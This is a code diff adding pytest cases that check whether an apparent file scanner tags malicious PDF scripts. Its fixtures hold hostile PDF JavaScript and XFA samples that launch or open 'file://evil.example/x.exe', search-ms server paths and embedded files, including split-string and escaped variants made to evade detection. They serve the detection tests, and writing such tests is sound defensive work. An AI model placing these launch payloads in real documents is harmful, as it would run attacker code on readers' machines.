@@ -156,6 +156,55 @@ def test_ordinary_appointments_and_cards_have_no_tag(content: bytes) -> None:
     assert not found(content)[0]
 
 
+SCRIPTS = {
+    "a link": scripted(b'app.launchURL("file://evil.example/x.exe", true)'),
+    "a search": scripted(b'this.getURL("search-ms:query=x&crumb=location:' + BASE.replace(b"\\", b"\\\\") + b'")'),
+    "a document on a server": scripted(b"app.openDoc('" + BASE.replace(b"\\", b"\\\\") + b"\\\\x.exe')"),
+    "after a short string": scripted(b'f("a", 1234, 12345, "file://evil.example/x.exe"); app.openDoc(x)'),
+    "in pieces": scripted(b'app["launch"+"URL"]("file://ev"+"il.example/x.exe")'),
+    "escaped": scripted(b'app.launchURL("\\x66ile://evil.example/x.exe")'),
+    "a script of its own": document(
+        b"<</S/JavaScript/JS 2 0 R>>",
+        b'2 0 obj<</Length 50>>stream\napp.launchURL("file://evil.example/x.exe");\nendstream endobj\n',
+    ),
+    "a string of its own": document(
+        b"<</S/JavaScript/JS 2 0 R>>", b'2 0 obj (app.launchURL\\("file://evil.example/x.exe"\\)) endobj\n'
+    ),
+    "a form": document(
+        b"<</XFA 2 0 R>>",
+        b"2 0 obj<</Length 99>>stream\n<script contentType='application/x-javascript'>"
+        b"xfa.host.gotoURL(&quot;file://evil.example/x.exe&quot;)</script>\nendstream endobj\n",
+    ),
+}
+
+
+@pytest.mark.parametrize("content", SCRIPTS.values(), ids=SCRIPTS)
+def test_a_link_of_a_script_in_pdf_was_no_link(content: bytes) -> None:
+    """An action of the document with the same link had the tag."""
+    tags, hosts = found(content)
+    assert {"pdf:javascript", "pdf:launch"} <= tags and "evil.example" in hosts
+
+
+@pytest.mark.parametrize(
+    "arguments", [b'{cName:"x.doc",nLaunch:2}', b'{cName:"x.doc", "nLaunch": 1}', b'"x","",true,2']
+)
+def test_a_script_that_opens_an_embedded_file_had_no_tag(arguments: bytes) -> None:
+    assert "pdf:launch" in found(scripted(b"this.exportDataObject(" + arguments + b")"))[0]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        b'this.exportDataObject({cName:"x.doc",nLaunch:0})',
+        b'app.launchURL("https://example.org/x.exe")',
+        b'var s = "search:"; this.submitForm("https://example.org/"); var t = "Shell: 5 mm"',
+        b'app.alert("file://files.example/setup.exe")',
+    ],
+)
+def test_an_ordinary_script_in_pdf_starts_nothing(source: bytes) -> None:
+    assert "pdf:launch" not in found(scripted(source))[0]
+
+
 @pytest.mark.parametrize(
     ("head", "tag"),
     [
